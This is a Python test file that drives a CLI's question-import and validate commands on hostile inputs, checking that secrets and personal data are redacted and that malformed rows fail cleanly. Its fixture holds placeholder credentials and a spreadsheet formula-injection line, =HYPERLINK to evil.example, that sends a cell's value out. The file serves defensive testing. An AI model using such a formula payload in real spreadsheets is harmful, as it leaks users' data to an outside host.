"""Issue 44 through the real CLI, on hostile files the tests write: nothing personal or secret
from a log reaches the queue, the import report or the terminal; a huge row is one line and a
non-zero exit with nothing written; `sweep validate` names a control character's file, line
and field; a URL setting with a password in its query string is refused without echoing it."""

from __future__ import annotations

import csv
import gzip
import io
import json
from pathlib import Path

import pytest

from helpers import DEMO, run_cli

AWS_SECRET = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"
SECRETS = ["jane.doe@example.com", "07700 900123", "+49 1512 3456789", "hunter2pw",
           AWS_SECRET, "de89-3704-0044-0532-0130-00", "bob@example.org", "s3cretq"]


def _hostile_log(path: Path) -> None:
    buf = io.StringIO()
    w = csv.writer(buf)
    w.writerow(["id", "question", "feedback"])
    w.writerows([
        ["jane.doe@example.com", "How do I re\x00set my password?", "down"],
        ["2", "why does scheme://bob:hunter2pw@db/app fail", "call me 07700 900123"],
        ["3", f"is {AWS_SECRET} my key?", "mail bob@example.org"],
        ["4", '=HYPERLINK("http://evil.example/?"&A1,"click")', "+49 1512 3456789"],
        ["5", "pay to de89-3704-0044-0532-0130-00 or postgresql://h/db?user=u&password=s3cretq",
         "up"],
    ])
    path.write_text(buf.getvalue(), encoding="utf-8")


def test_import_keeps_every_secret_out_of_every_output(tmp_path: Path) -> None:
    log = tmp_path / "log.csv"
    _hostile_log(log)
    q = tmp_path / "queue.jsonl"
    res = run_cli("-m", "sweep.cli", "questions", "import", str(log), "--out", str(q),
                  "--no-near", cwd=tmp_path, timeout=300)
    assert res.returncode == 0, res.stderr
    report = (tmp_path / "queue.import_report.json").read_text(encoding="utf-8")
    queue = q.read_text(encoding="utf-8")
    everything = queue + report + res.stdout + res.stderr
    for secret in SECRETS:
        assert secret not in everything, secret
    assert "\\u0000" not in queue and "\x00" not in queue
    cands = [json.loads(x) for x in queue.splitlines()]
    refs = {c["source_ref"] for c in cands}
    assert "log.csv:2 (id [email])" in refs
    assert any(c["question"] == "How do I re set my password?" for c in cands)
    red = json.loads(report)["redactions"]
    assert red["email"] == 2 and red["phone"] == 2 and red["iban"] == 1 and red["key"] == 3


def test_a_huge_row_in_a_small_gzip_is_one_line_and_writes_nothing(tmp_path: Path) -> None:
    log = tmp_path / "big.csv.gz"
    with gzip.open(log, "wt", encoding="utf-8") as fh:  # 2 MB line, a few KB compressed
        fh.write("question\nfine?\n" + "a" * 2_000_000 + "\n")
    assert log.stat().st_size < 50_000
    q = tmp_path / "queue.jsonl"
    q.write_text('{"cid": "c-1", "question": "kept", "count": 1, "source": "log"}\n',
                 encoding="utf-8")
    before = q.read_bytes()
    res = run_cli("-m", "sweep.cli", "questions", "import", str(log), "--out", str(q),
                  "--no-near", "--max-row-chars", "10000", cwd=tmp_path, timeout=300)
    assert res.returncode != 0
    lines = [x for x in res.stderr.splitlines() if x.startswith("error:")]
    assert len(lines) == 1 and f"{log}:3: the row is longer than 10,000 characters" in lines[0]
    assert "Traceback" not in res.stderr
    assert q.read_bytes() == before
    assert not (tmp_path / "queue.import_report.json").exists()


def _ws(tmp_path: Path, item: dict) -> list[str]:
    golden = tmp_path / "golden.jsonl"
    golden.write_text(json.dumps(item) + "\n", encoding="utf-8")
    return [f"corpus.path={DEMO / 'corpus'}", f"golden.path={golden}", "tracking=off",
            f"cache.dir={tmp_path / 'cache'}"]


def test_validate_names_a_qid_with_a_nul(tmp_path: Path) -> None:
    args = _ws(tmp_path, {"qid": "q\x001", "question": "how long to return?",
                          "relevant_doc_ids": ["returns/refund-policy"]})
    res = run_cli("-m", "sweep.cli", "validate", *args, cwd=tmp_path, timeout=300)
    assert res.returncode != 0
    assert f"{tmp_path / 'golden.jsonl'}:1: qid: holds a control character or line break " \
           "(U+0000)" in res.stdout + res.stderr
    assert "Traceback" not in res.stdout + res.stderr


@pytest.mark.parametrize("override", [
    "cache.url=postgresql://bob@db/app?password=hunter2pw",
    "generation.base_url=https://api.example.com/v1?user=u&api_key=hunter2pw",
])
def test_a_url_setting_with_a_query_password_is_refused_unechoed(tmp_path: Path,
                                                                 override: str) -> None:
    args = _ws(tmp_path, {"qid": "q1", "question": "how long to return?",
                          "relevant_doc_ids": ["returns/refund-policy"]})
    res = run_cli("-m", "sweep.cli", "validate", *args, override, cwd=tmp_path, timeout=300)
    assert res.returncode != 0
    out = res.stdout + res.stderr
    assert "hunter2pw" not in out and "password-like query parameter" in out
    assert "Traceback" not in out
